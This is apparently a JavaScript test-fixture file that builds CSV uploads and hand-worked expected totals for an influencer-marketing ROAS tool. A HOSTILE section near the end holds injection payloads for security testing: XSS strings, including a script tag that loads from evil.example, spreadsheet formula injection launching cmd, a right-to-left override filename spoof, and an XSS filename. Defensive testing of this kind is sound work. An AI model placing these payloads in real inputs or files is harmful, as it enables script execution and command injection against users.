// The files that the stories upload. The totals of the good ones are worked out by hand, beside them.

/** @typedef {{ name: string, mimeType: string, buffer: Buffer }} Upload */

/** @param {string} name @param {string[]} lines @returns {Upload} */
export function csv(name, lines) {
  return { name, mimeType: 'text/csv', buffer: Buffer.from(`${lines.join('\n')}\n`) };
}

const INFLUENCERS = csv('influencers.csv', [
  'id,name,category,gender,followers,platform',
  '1,Asha Rao,Fitness,Female,120000,Instagram',
  '2,Bilal Khan,Nutrition,Male,45000,YouTube',
  '3,Chitra Nair,Yoga,Female,8000,Twitter',
]);
const TRACKING = csv('tracking_data.csv', [
  'source,campaign,influencer_id,product,date,orders,revenue',
  'influencer,SummerFit,1,MuscleBlaze,2026-01-01,10,20000',
  'influencer,SummerFit,2,MuscleBlaze,2026-01-02,5,8000.50',
  'influencer,NewYou,2,HKVitals,2026-01-03,4,6000',
  'organic,,,MuscleBlaze,2026-01-01,6,9000',
  'organic,,,HKVitals,2026-01-03,3,3000',
]);
const PAYOUTS = csv('payouts.csv', ['influencer_id,basis,rate,orders,total_payout', '1,post,5000,0,10000', '2,order,400,9,3600']);

/** Three files without a fault. */
export const GOOD = [INFLUENCERS, TRACKING, PAYOUTS];

/** What GOOD adds up to: 20,000 + 8,000.50 + 6,000; 10,000 + 3,600; 10 + 5 + 4; organic 9,000 + 3,000. */
export const GOOD_TOTALS = {
  revenue: 34000.5,
  spend: 13600,
  orders: 19,
  roas: 34000.5 / 13600,
  incremental_roas: (34000.5 - 12000) / 13600,
};

/** One revenue that is no number: the other rows are worth 26,000, and 4,000 of spend cannot be read either. */
export const BAD = [
  INFLUENCERS,
  csv('tracking_data.csv', [
    'source,campaign,influencer_id,product,date,orders,revenue',
    'influencer,SummerFit,1,MuscleBlaze,2026-01-01,10,20000',
    'influencer,SummerFit,2,MuscleBlaze,2026-01-02,5,eight thousand',
    'influencer,NewYou,2,HKVitals,2026-01-03,4,6000',
    'organic,,,MuscleBlaze,2026-01-01,6,9000',
  ]),
  PAYOUTS,
];

/** As the data of most marketers is: no organic row at all. */
export const NO_ORGANIC = [
  INFLUENCERS,
  csv('tracking_data.csv', [
    'source,campaign,influencer_id,product,date,orders,revenue',
    'influencer,SummerFit,1,MuscleBlaze,2026-01-01,10,20000',
    'influencer,SummerFit,2,MuscleBlaze,2026-01-02,5,8000',
  ]),
  PAYOUTS,
];

/** Days that can be read in two ways, in every row: only the reader can say. */
export const TWO_WAYS = [
  INFLUENCERS,
  csv('tracking_data.csv', [
    'source,campaign,influencer_id,product,date,orders,revenue',
    'influencer,SummerFit,1,MuscleBlaze,03-04-2026,10,20000',
    'influencer,SummerFit,2,MuscleBlaze,05-04-2026,5,8000',
    'organic,,,MuscleBlaze,03-04-2026,6,9000',
  ]),
  PAYOUTS,
];

/**
 * As people keep it: other headings, spellings, a row twice, an amount in words, and two columns that hold money.
 * Used rows of tracking: influencer 10,000 + 10,000 + 4,000 (one 10,000 is the repeated row), ad 500, organic 3,000; the net column: 9,000 + 9,000 + 3,600, 450, 2,700.
 */
export const MESSY = [
  csv('people.csv', [
    'ID,Name,Category,Gender,Follower Count,Platform',
    '1,Asha Rao,Fitness,F,120000,Insta',
    '2,Bilal Khan,Nutrition,Male,45000,youtube',
    '3,Chitra Nair,Yoga,Female,8000,X',
  ]),
  csv('sales.csv', [
    'source,campaign,influencer_id,product,date,orders,revenue,net_amount,colour',
    'influencer,SummerFit,1,MuscleBlaze,2026-01-01,10,10000,9000,red',
    'influencer,SummerFit,1,MuscleBlaze,2026-01-01,10,10000,9000,red',
    'influencer,SummerFit,2,HKVitals,2026-01-02,5,4000,3600,blue',
    'influencer,NewYou,2,HKVitals,2026-01-03,4,six thousand,5400,blue',
    'ad,NewYou,,HKVitals,2026-01-03,1,500,450,blue',
    'organic,,,MuscleBlaze,2026-01-01,6,3000,2700,green',
  ]),
  csv('payments.csv', ['influencer_id,basis,rate,orders,total_payout', '1,post,5000,0,10000', '2,order,400,9,3600']),
];

/** The same sales a month later, to be added: 700 of influencers and the rows of January once more. */
export const NEXT_MONTH = csv('sales_feb.csv', [
  'source,campaign,influencer_id,product,date,orders,revenue',
  'influencer,SummerFit,1,MuscleBlaze,2026-02-01,1,700',
]);

/** Sales of May and of June: together 1,000 + 200 + 30, each file alone 1,200 or 30. */
export const TWO_MONTHS = [
  INFLUENCERS,
  csv('may.csv', [
    'source,campaign,influencer_id,product,date,orders,revenue',
    'influencer,SummerFit,1,MuscleBlaze,2026-05-01,1,1000',
    'influencer,SummerFit,2,MuscleBlaze,2026-05-02,1,200',
  ]),
  csv('june.csv', ['source,campaign,influencer_id,product,date,orders,revenue', 'influencer,SummerFit,1,MuscleBlaze,2026-06-01,1,30']),
  PAYOUTS,
];

/** One influencer with nine campaigns, the last one worth most, two payouts and twenty-five posts. */
export const DETAILED = [
  csv('influencers.csv', ['id,name,category,gender,followers,platform', '1,Asha Rao,Fitness,Female,120000,Instagram']),
  csv('tracking_data.csv', [
    'source,campaign,influencer_id,product,date,orders,revenue',
    ...Array.from({ length: 9 }, (_, at) => `influencer,<b>Campaign ${at + 1}</b>,1,MuscleBlaze,2026-01-0${at + 1},1,${1000 + at}`),
  ]),
  csv('payouts.csv', ['influencer_id,basis,rate,orders,total_payout', '1,post,5000,0,10000', '1,order,400,9,3600']),
  csv('posts.csv', [
    'influencer_id,platform,date,url,caption,reach,likes,comments',
    ...Array.from(
      { length: 25 },
      (_, at) => `1,Instagram,2026-01-${String(at + 1).padStart(2, '0')},https://x.example/${at},Post ${at},${5000 + at},${100 + at},${at}`,
    ),
  ]),
];

/** Nobody was paid, as far as the file says. */
export const NO_PAYOUTS = [INFLUENCERS, TRACKING, csv('payouts.csv', ['influencer_id,basis,rate,orders,total_payout'])];

/** One influencer was paid next to nothing: a ROAS of 12,34,567.89. */
export const HUGE = [
  INFLUENCERS,
  csv('tracking_data.csv', [
    'source,campaign,influencer_id,product,date,orders,revenue',
    'influencer,SummerFit,1,MuscleBlaze,2026-01-01,10,9876543120.25',
  ]),
  csv('payouts.csv', ['influencer_id,basis,rate,orders,total_payout', '1,post,8000,0,8000']),
];

/** @param {number} count influencers, each with one sale of 1,000 + its number */
export function many(count) {
  const ids = Array.from({ length: count }, (_, at) => at + 1);
  return [
    csv('influencers.csv', [
      'id,name,category,gender,followers,platform',
      ...ids.map((id) => `${id},Person ${String(id).padStart(5, '0')},Fitness,Female,${1000 + id},Instagram`),
    ]),
    csv('tracking.csv', [
      'source,campaign,influencer_id,product,date,orders,revenue',
      ...ids.map((id) => `influencer,C,${id},MuscleBlaze,2026-01-01,1,${1000 + id}`),
    ]),
    csv('payouts.csv', ['influencer_id,basis,rate,orders,total_payout', ...ids.map((id) => `${id},post,100,0,100`)]),
  ];
}

/** Texts that would do harm where text is taken for markup, a formula or a direction of writing. */
export const HOSTILE = {
  markup: '<img src=x onerror=alert(1)>',
  script: '"><script src=https://evil.example/x.js></script><svg onload=alert(2)>',
  formula: "=cmd|'/C calc'!A0",
  plus: '+SUM(1;1)',
  at: '@import("https://evil.example")',
  rightToLeft: '\u202e\u0645\u0631\u062d\u0628\u0627 live.exe',
  long: `Long ${'x'.repeat(10_000)}`,
};

/** @param {string} text */
const quoted = (text) => `"${text.replaceAll('"', '""')}"`;

/** Hostile text in every text column of every file. */
export function hostileFiles() {
  const texts = Object.values(HOSTILE);
  /** @param {number} at */
  const text = (at) => quoted(texts[at % texts.length]);
  const ids = texts.map((_, at) => at + 1);
  return [
    csv('<img src=x onerror=alert(3)>.csv', [
      'id,name,category,gender,followers,platform',
      ...ids.map((id, at) => [id, text(at), text(at + 1), text(at + 2), 1000 * id, text(at + 3)].join(',')),
    ]),
    csv('tracking_data.csv', [
      'source,campaign,influencer_id,product,date,orders,revenue,brand',
      ...ids.map((id, at) =>
        [quoted(`influencer ${texts[at]}`), text(at + 4), id, text(at + 5), '2026-01-01', id, 1000 * id, text(at + 6)].join(','),
      ),
      ...ids.map((id, at) => ['organic', '', '', text(at + 5), '2026-01-02', id, 500 * id, text(at + 6)].join(',')),
    ]),
    csv('payouts.csv', [
      'influencer_id,basis,rate,orders,total_payout,campaign',
      ...ids.map((id, at) => [id, text(at), 100, 0, 400 * id, ''].join(',')),
    ]),
  ];
}
